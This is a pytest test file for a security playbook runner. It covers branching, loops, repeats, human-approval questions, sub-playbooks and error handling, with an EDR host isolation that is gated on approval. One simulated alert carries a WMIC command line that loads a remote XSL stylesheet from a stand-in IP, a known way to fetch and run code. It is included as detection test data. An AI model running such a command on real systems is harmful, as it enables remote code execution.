"""The steps that branch, repeat, ask and run others, played on the real journal and products."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest

from connectors.emulators.slack_workspace import CHANNEL
from runner.journal import runs
from runner.journal.records import Approval, ApprovalState, Run, RunStatus
from runner.views import show_status
from tests.world import World, running_world
from tests.world_settings import HOST, RESPONDER_A, RESPONDER_B

HEAD = """\
playbook: {name}
description: A playbook of this test.
steps:
  - id: triage
    do: wmic.assess
    with: {{alert: "{{{{ alert }}}}"}}
"""


@contextmanager
def played(
    tmp_path: Path,
    steps: str,
    changes: dict[str, Any] | None = None,
    head: str = HEAD.format(name="played"),
    **others: str,
) -> Iterator[World]:
    """One run of these steps after the triage, as far as it goes in one tick; `others` are the
    playbooks beside it."""
    search = {"searches": {"wmic_format_hits": {"playbook": "played"}}}
    playbooks = {"played": head + steps, **others}
    with running_world(tmp_path, {**search, **(changes or {})}, playbooks=playbooks) as world:
        world.arm()
        world.hit()
        world.tick()
        yield world


def run_of(world: World) -> Run:
    (run,) = world.runs()
    return run


def end_of(world: World) -> tuple[RunStatus, str | None]:
    run = run_of(world)
    return run.status, run.result or run.error


def said(world: World) -> list[str]:
    """What the playbook's own messages said, in order; cards are no messages."""
    asked = {question.message.id for question in world.questions() if question.message}
    return [card["text"] for card in world.cards() if card["ts"] not in asked]


def say(text: str, by: int = 0) -> str:
    pad = " " * by
    return f'{pad}  - do: chat.post_message\n{pad}    with: {{text: "{text}"}}\n'


# -- switch ----------------------------------------------------------------------------------------

SWITCH = (
    '  - switch: "{{ triage.assessment }}"\n    cases:\n'
    "      malicious:\n" + say("it is malicious", 6) + "      benign:\n" + say("it is benign", 6)
)


def test_switch_when_a_case_is_the_value_then_only_that_branch_runs(tmp_path: Path) -> None:
    with played(tmp_path, SWITCH + "    default:\n" + say("something else", 4)) as world:
        assert said(world) == ["it is malicious"]


def test_switch_when_no_case_is_the_value_then_the_default_runs(tmp_path: Path) -> None:
    steps = SWITCH.replace("triage.assessment", "alert.raw.host")
    with played(tmp_path, steps + "    default:\n" + say("something else", 4)) as world:
        assert said(world) == ["something else"]


def test_switch_when_no_case_is_exactly_the_value_then_nothing_falls_through(
    tmp_path: Path,
) -> None:
    steps = SWITCH.replace("malicious:", "Malicious:").replace("benign:", "malicious :")
    steps = steps.replace("triage.assessment", "alert.raw.kind | default('malicious')")
    with played(tmp_path, steps + "    default:\n" + say("something else", 4)) as world:
        assert said(world) == ["it is benign"]


# -- for_each --------------------------------------------------------------------------------------

EACH = (
    '  - id: loop\n    for_each: ["a", "b", "c"]\n    as: letter\n    max: 3\n    steps:\n'
    + say("letter {{ letter }}", 4).replace("- do:", "- id: told\n        do:")
)


def test_for_each_when_played_then_each_entry_once_and_its_results_in_order(
    tmp_path: Path,
) -> None:
    with played(tmp_path, EACH + say("{{ loop | length }} {{ steps.loop.status }}")) as world:
        assert said(world) == ["letter a", "letter b", "letter c", "3 succeeded"]
        keys = [key for key in world.steps(run_of(world)) if key.startswith("/loop/")]
        assert [key.split("#")[0] for key in keys] == [f"/loop/{n}/told" for n in range(3)]


def test_for_each_when_there_are_more_entries_than_max_then_it_fails_and_does_none(
    tmp_path: Path,
) -> None:
    steps = EACH.replace('["a", "b", "c"]', "\"{{ alert.addresses + ['b', 'c'] }}\"")
    with played(tmp_path, steps.replace("max: 3", "max: 1")) as world:
        assert said(world) == []
        assert end_of(world) == (
            RunStatus.FAILED,
            "playbook: played.yaml:7: `for_each` has 2 entries, and max is 1",
        )


def test_for_each_when_it_gets_no_list_then_it_fails(tmp_path: Path) -> None:
    with played(tmp_path, EACH.replace('["a", "b", "c"]', '"{{ alert.raw.x }}"')) as world:
        assert run_of(world).status is RunStatus.FAILED
    with played(
        tmp_path / "text", EACH.replace('["a", "b", "c"]', '"{{ alert.raw.cmdline }}"')
    ) as world:
        assert end_of(world)[1] == "playbook: played.yaml:7: `for_each` needs a list"


def test_for_each_when_the_runner_is_restarted_between_two_entries_then_each_was_done_once(
    tmp_path: Path,
) -> None:
    with played(tmp_path, EACH) as world:
        for _ in range(2):
            with world.journal.write() as tx:
                tx.change("update run set status = 'queued', wake_at = 0")
            world.restart()
            world.tick()
        assert said(world) == ["letter a", "letter b", "letter c"]


# -- repeat ----------------------------------------------------------------------------------------

REPEAT = (
    "  - id: look\n    repeat:\n      - id: host\n        do: edr.find_host\n"
    '        with: {alert: "{{ alert }}"}\n'
    '    until: "{{ host.found }}"\n    max: 3\n    every_s: 600\n'
)


def test_repeat_when_it_holds_at_once_then_one_round(tmp_path: Path) -> None:
    with played(tmp_path, REPEAT + say("found {{ look.found }}")) as world:
        assert said(world) == ["found true"]
        assert not [key for key in world.steps(run_of(world)) if key.startswith("/look/1")]


def test_repeat_when_it_holds_later_then_it_waits_as_a_row_between_the_rounds(
    tmp_path: Path,
) -> None:
    with running_world(
        tmp_path,
        {"searches": {"wmic_format_hits": {"playbook": "played"}}},
        playbooks={"played": HEAD.format(name="played") + REPEAT + say("{{ look.found }} at last")},
    ) as world:
        world.arm()
        devices = dict(world.falcon.devices)
        world.falcon.devices.clear()
        world.hit()
        world.tick()
        assert (run_of(world).status, run_of(world).wait_on) == (RunStatus.WAITING, "time")
        world.falcon.devices.update(devices)
        world.ticks(1, every_s=300)
        assert said(world) == []
        world.restart()
        world.ticks(1, every_s=301)
        assert said(world) == ["true at last"]


@pytest.mark.parametrize(
    ("more", "why", "ticks"),
    [
        ("", "timeout: `until` did not hold in 3 rounds", 3),
        ("    timeout_s: 700\n", "timeout: `until` did not hold within 700 s (2 rounds)", 3),
    ],
)
def test_repeat_when_it_never_holds_then_it_fails_and_says_why(
    tmp_path: Path, more: str, why: str, ticks: int
) -> None:
    steps = REPEAT.replace("host.found", "host.summary == 'x'") + more
    with played(tmp_path, steps) as world:
        world.ticks(ticks, every_s=601)
        assert end_of(world) == (RunStatus.FAILED, why)


# -- ask -------------------------------------------------------------------------------------------

ASK = """\
  - id: planned
    ask: "Is the script on {{ alert.raw.host }} planned?"
    answers:
      planned: It is planned
      stranger: Nobody here knows it
    expires_s: 3600
    on_expiry: stranger
"""
TELL = say("{{ planned.answer }} {{ planned.state }} {{ steps.planned.status }}")
ONE, TWO = "one", "two"


def test_ask_when_somebody_answers_then_the_answer_is_a_value(tmp_path: Path) -> None:
    with played(tmp_path, ASK + TELL) as world:
        question = world.question()
        text = world.card(question)["text"]
        assert text.startswith(f"Is the script on {HOST} planned? Answer by")
        world.react(question, RESPONDER_A, ONE)
        world.ticks(1, every_s=30)
        assert said(world) == ["planned answered succeeded"]
        assert world.again(question).state is ApprovalState.APPROVED
        assert world.thread(question)[-1].startswith("ANSWERED by responder-a at ")
        assert "planned? It is planned. Journal anchor " in world.thread(question)[-1]
        assert world.contains() == []


def test_ask_when_the_card_is_read_then_it_shows_each_answer_and_what_silence_counts_as(
    tmp_path: Path,
) -> None:
    with played(tmp_path, ASK) as world:
        card = world.card(world.question())
        legend = card["blocks"][-1]["elements"][0]["elements"]
        assert [part.get("name") or part["text"].strip() for part in legend] == [
            "Answer with a reaction:",
            *("", "one", "It is planned (one person needed)"),
            *("", "two", "Nobody here knows it (one person needed)"),
        ]
        shown = str(card)
        assert "No answer by then counts as: Nobody here knows it." in shown
        for word in ("white_check_mark", "cuts the device off", "isolate", "To undo"):
            assert word not in shown


def test_ask_when_nobody_answers_then_it_counts_as_the_playbook_says(tmp_path: Path) -> None:
    with played(tmp_path, ASK + TELL) as world:
        question = world.question()
        world.ticks(2, every_s=1900)
        assert "without an answer by" in "".join(world.thread(question))
        assert said(world) == ["stranger expired denied"]
        assert world.again(question).state is ApprovalState.EXPIRED


def test_ask_when_a_quorum_is_asked_for_then_two_people_must_agree(tmp_path: Path) -> None:
    with played(tmp_path, ASK + "    quorum: 2\n" + TELL) as world:
        question = world.question()
        world.react(question, RESPONDER_A, ONE)
        world.react(question, RESPONDER_B, TWO)
        world.ticks(1, every_s=30)
        assert said(world) == []
        world.unreact(question, RESPONDER_B, TWO)
        world.react(question, RESPONDER_B, ONE)
        world.ticks(1, every_s=30)
        assert said(world) == ["planned answered succeeded"]


def test_ask_when_one_person_gives_two_answers_then_neither_counts(tmp_path: Path) -> None:
    with played(tmp_path, ASK + TELL) as world:
        question = world.question()
        world.react(question, RESPONDER_A, ONE)
        world.react(question, RESPONDER_A, TWO)
        world.ticks(1, every_s=30)
        assert said(world) == []
        assert world.again(question).state is ApprovalState.OPEN


def test_ask_when_the_card_was_changed_then_it_is_asked_again_and_no_answer_of_it_counts(
    tmp_path: Path,
) -> None:
    with played(tmp_path, ASK + TELL) as world:
        for _ in range(3):
            question = world.question()
            world.react(question, RESPONDER_A, ONE)
            world.slack.edit(CHANNEL, world.message_id(question), "something else")
            world.ticks(1, every_s=30)
            assert world.again(question).state is ApprovalState.VOID
        assert run_of(world).status is RunStatus.FAILED
        assert "asked three times, void each time" in str(run_of(world).error)


def test_ask_when_only_observing_then_nobody_is_asked(tmp_path: Path) -> None:
    with played(tmp_path, ASK, {"mode": "observe"}) as world:
        assert world.questions() == []
        assert run_of(world).status is RunStatus.SUCCEEDED
        assert world.writes() == {"falcon": 0, "slack": 0, "jira": 0}


def test_ask_when_the_mode_changes_after_it_was_only_observed_then_the_run_goes_the_same_way(
    tmp_path: Path,
) -> None:
    waits = REPEAT.replace("host.found", "host.summary == 'x'")
    with played(tmp_path, ASK + waits, {"mode": "observe"}) as world:
        assert run_of(world).status is RunStatus.WAITING
        world.restart({"mode": "practice"})
        world.ticks(3, every_s=601)
        assert world.questions() == []
        assert run_of(world).status is RunStatus.FAILED


def test_ask_when_another_run_has_a_question_open_then_both_are_asked(tmp_path: Path) -> None:
    """A general question claims no device, so it holds up nobody."""
    with played(tmp_path, ASK) as world:
        world.hit(cmdline="wmic os get /format:http://192.0.2.9/b.xsl")
        world.tick()
        assert len(world.questions(ApprovalState.OPEN)) == 2


def answered(world: World, question: Approval, emoji: str) -> None:
    world.react(question, RESPONDER_A, emoji)
    world.ticks(1, every_s=30)


def test_ask_when_its_answer_leads_to_a_containment_then_people_are_asked_about_that_as_well(
    tmp_path: Path,
) -> None:
    steps = (
        ASK.replace("on_expiry: stranger", "on_expiry: planned")
        + "  - if: \"{{ planned.answer == 'stranger' }}\"\n    then:\n"
        '      - id: host\n        do: edr.find_host\n        with: {alert: "{{ alert }}"}\n'
        "      - id: cut\n        do: edr.isolate_host\n"
        '        targets: ["{{ host.target }}"]\n        with: {reason: because}\n'
    )
    with played(tmp_path, steps) as world:
        answered(world, world.question(), TWO)
        assert world.contains() == []
        world.yes(world.question())
        world.ticks(1, every_s=30)
        assert world.contains() == [HOST]


# -- run -------------------------------------------------------------------------------------------

SUB = (
    "playbook: sub\ndescription: A sub-playbook.\n"
    "inputs:\n  name: {type: text}\n  mood: {type: text, default: calm}\nsteps:\n"
    + say("hello {{ inputs.name }}, {{ inputs.mood }}").replace("- do:", "- id: told\n    do:")
    + "  - if: \"{{ inputs.mood == 'angry' }}\"\n    then:\n      - stop: {reason: enough}\n"
    + say("bye")
)
RUN = '  - id: first\n    run: sub\n    with: {name: "{{ triage.assessment }}"}\n'


def test_run_when_played_then_its_steps_nest_under_the_calling_step(tmp_path: Path) -> None:
    steps = RUN + say("{{ first.reason }} {{ first.is_stopped }}")
    with played(tmp_path, steps, sub=SUB) as world:
        assert said(world) == [
            "hello malicious, calm",
            "bye",
            "all steps done false",
        ]
        assert [key for key in world.steps(run_of(world)) if "/told#" in key] == [
            "/first/run.sub/told#message"
        ]


def test_run_when_it_stops_then_only_the_sub_playbook_ends(tmp_path: Path) -> None:
    steps = RUN.replace("{name:", "{mood: angry, name:")
    steps += say("after {{ first.reason }}, {{ first.verdict }}")
    sub = SUB.replace("{reason: enough}", "{reason: enough, verdict: a test}")
    with played(tmp_path, steps, sub=sub) as world:
        assert said(world) == ["hello malicious, angry", "after enough, a test"]
        assert end_of(world) == (RunStatus.SUCCEEDED, "all steps done")


def test_run_when_a_branch_of_a_parallel_stops_its_sub_playbook_then_the_others_go_on(
    tmp_path: Path,
) -> None:
    run = RUN.replace("{name:", "{mood: angry, name:")
    steps = (
        "  - parallel:\n      one:\n"
        + "".join("    " + line + "\n" for line in run.splitlines())
        + "      two:\n"
        + say("two spoke", 6)
    )
    with played(tmp_path, steps, sub=SUB) as world:
        assert said(world) == ["hello malicious, angry", "two spoke"]


def test_run_when_the_files_are_edited_then_a_run_in_flight_keeps_what_it_began_with(
    tmp_path: Path,
) -> None:
    with played(tmp_path, ASK + RUN, sub=SUB) as world:
        for name in ("played", "sub"):
            (world.folder / "playbooks" / f"{name}.yaml").write_text("gone: true\n")
        world.restart()
        answered(world, world.question(), ONE)
        assert said(world) == ["hello malicious, calm", "bye"]
        sha256 = run_of(world).bundle_sha256
        with world.journal.read() as tx:
            body = runs.bundle(tx, sha256)
        assert msgspec.json.decode(body)[1:] == [["sub", SUB]]


def test_run_when_the_sub_playbook_fails_then_its_own_on_error_runs_and_the_step_has_failed(
    tmp_path: Path,
) -> None:
    sub = SUB.replace("{{ inputs.mood }}", "{{ alert.raw.nothing }}").replace(
        "steps:\n", "on_error:\n" + say("sub failed: {{ failure.kind }}") + "steps:\n"
    )
    steps = RUN + "    on_error: continue\n" + say("first {{ steps.first.status }}")
    with played(tmp_path, steps, sub=sub) as world:
        assert said(world) == ["sub failed: playbook", "first failed"]
        assert run_of(world).status is RunStatus.SUCCEEDED


def test_run_when_nothing_like_it_is_there_then_no_hit_is_judged_and_none_is_lost(
    tmp_path: Path,
) -> None:
    with played(tmp_path, RUN) as world:
        assert world.cases() == []
        (error,) = world.tick().errors
        assert "SP501" in error
        (world.folder / "playbooks" / "sub.yaml").write_text(SUB)
        world.ticks(1, every_s=60)
        assert said(world) == ["hello malicious, calm", "bye"]


# -- inputs, vars, on_error ------------------------------------------------------------------------


def with_head(more: str) -> str:
    return HEAD.format(name="played").replace("steps:\n", more + "steps:\n")


def test_vars_when_computed_then_known_to_all_steps_and_to_later_ones(tmp_path: Path) -> None:
    head = with_head(
        'vars:\n  host: "{{ alert.raw.host }}"\n  text: "on {{ vars.host }}"\n  n: [1, 2]\n'
    )
    steps = say("{{ vars.text }} {{ vars.n | length }}")
    with played(tmp_path, steps, head=head) as world:
        assert said(world) == [f"on {HOST} 2"]


def test_vars_when_one_fails_then_the_run_fails_before_any_step(tmp_path: Path) -> None:
    head = with_head('vars: {x: "{{ alert.raw.nothing }}"}\n')
    with played(tmp_path, say("never"), head=head) as world:
        assert said(world) == []
        status, text = end_of(world)
        assert status is RunStatus.FAILED
        assert str(text).startswith("playbook: played.yaml: vars.x: ")


def test_inputs_when_one_is_required_and_a_hit_starts_it_then_it_is_refused(
    tmp_path: Path,
) -> None:
    head = with_head("inputs: {who: {type: text}}\n")
    with played(tmp_path, say("{{ inputs.who }}"), head=head) as world:
        assert world.cases() == []
        (error,) = world.tick().errors
        assert "it needs the input `who`, and a hit gives none" in error


def test_inputs_when_a_hit_starts_it_then_the_defaults_hold(tmp_path: Path) -> None:
    head = with_head(
        "inputs: {who: {type: text, default: me}, what: {type: text, required: false}}\n"
    )
    steps = say("{{ inputs.who }} {{ inputs.what | default('nothing') }}")
    with played(tmp_path, steps, head=head) as world:
        assert said(world) == ["me nothing"]


FAILS = "  - id: t\n    do: tickets.create_ticket\n    with: {title: t}\n"
ON_ERROR = "on_error:\n" + say("failed, {{ failure.kind }}: {{ failure.text | length > 5 }}")


@contextmanager
def refused(tmp_path: Path, steps: str, head: str) -> Iterator[World]:
    """Jira refuses each ticket for good."""
    changes = {"searches": {"wmic_format_hits": {"playbook": "played"}}}
    with running_world(tmp_path, changes, playbooks={"played": head + steps}) as world:
        world.arm()
        world.jira.misbehave(path="*/issue", status=400, body='{"errors":{}}', times=None)
        world.hit()
        world.tick()
        yield world


def test_on_error_when_the_run_fails_then_it_runs_once_and_the_run_stays_failed(
    tmp_path: Path,
) -> None:
    with refused(tmp_path, FAILS + say("never"), with_head(ON_ERROR)) as world:
        world.ticks(2, every_s=60)
        assert said(world) == ["failed, rejected: true"]
        assert run_of(world).status is RunStatus.FAILED
        assert str(run_of(world).error).startswith("rejected: ")


def test_on_error_when_it_stops_then_the_run_stays_failed(tmp_path: Path) -> None:
    head = with_head(ON_ERROR + "  - stop: {reason: all is well}\n")
    with refused(tmp_path, FAILS, head) as world:
        assert (run_of(world).status, run_of(world).result) == (RunStatus.FAILED, None)


def test_on_error_when_it_fails_itself_then_the_run_fails_with_both_reasons(
    tmp_path: Path,
) -> None:
    head = with_head("on_error:\n" + say("{{ alert.raw.nothing }}"))
    with refused(tmp_path, FAILS, head) as world:
        status, text = end_of(world)
        assert status is RunStatus.FAILED
        assert str(text).startswith("rejected: ")
        assert "and on_error failed as well: played.yaml:4: " in str(text)


def test_on_error_when_all_goes_well_then_it_never_runs(tmp_path: Path) -> None:
    with played(tmp_path, say("fine"), head=with_head(ON_ERROR)) as world:
        assert said(world) == ["fine"]


def test_action_when_it_is_given_what_it_cannot_take_then_the_step_fails_as_the_playbooks_fault(
    tmp_path: Path,
) -> None:
    steps = (
        "  - id: spread\n    do: hunt.spread\n    with:\n"
        '      alert: "{{ alert }}"\n      indicators: "{{ alert.raw.x | default([5]) }}"\n'
    )
    with played(tmp_path, steps) as world:
        status, text = end_of(world)
        assert status is RunStatus.FAILED
        assert str(text).startswith("playbook: played.yaml:7: hunt.spread takes `indicators`")
        assert "a fault of the program" not in str(text)


def test_run_time_fault_when_a_value_is_undefined_then_one_sentence_names_file_and_line(
    tmp_path: Path,
) -> None:
    with played(tmp_path, say("fine") + say("x {{ alert.raw.nothing }}")) as world:
        assert end_of(world)[1] == (
            "playbook: played.yaml:9: `x {{ alert.raw.nothing }}`: there is no `nothing`"
        )


@pytest.mark.parametrize(("timeout_s", "is_failed"), [(60, True), (900, False)])
def test_timeout_when_a_product_is_down_for_longer_then_the_step_fails(
    tmp_path: Path, timeout_s: int, is_failed: bool
) -> None:
    steps = FAILS + f"    timeout_s: {timeout_s}\n"
    search = {"searches": {"wmic_format_hits": {"playbook": "played"}}}
    playbooks = {"played": HEAD.format(name="played") + steps}
    with running_world(tmp_path, search, playbooks=playbooks) as world:
        world.arm()
        world.jira.misbehave(path="*", status=503, body="{}", times=None)
        world.hit()
        world.ticks(6, every_s=60)
        assert (run_of(world).status is RunStatus.FAILED) is is_failed
        if is_failed:
            assert str(run_of(world).error).startswith("unavailable: ")


def test_status_and_ticket_when_a_general_question_is_open_then_they_say_what_is_asked(
    tmp_path: Path,
) -> None:
    with played(tmp_path, FAILS + ASK) as world:
        shown = show_status(world.journal, world.config, None)
        code = world.question().code
        assert f"question {code} open: Is the script on {HOST} planned? until" in str(shown.text)
        answered(world, world.question(), ONE)
        assert f"Question {code}: ANSWERED by responder-a at" in world.ticket_texts()[-1]
